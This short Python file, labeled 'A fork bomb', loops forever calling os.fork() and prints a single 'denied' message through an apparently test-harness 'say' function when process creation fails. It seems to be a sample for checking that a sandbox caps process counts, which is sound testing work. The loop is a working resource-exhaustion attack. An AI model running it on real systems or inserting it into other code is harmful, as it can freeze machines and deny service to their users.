"""A fork bomb."""

import os
import time

from honest import say  # type: ignore[import-not-found]

refused = False
while True:
    try:
        os.fork()
    except OSError as error:
        if not refused:
            say(f"denied: {error.strerror}")
            refused = True
        time.sleep(0.05)
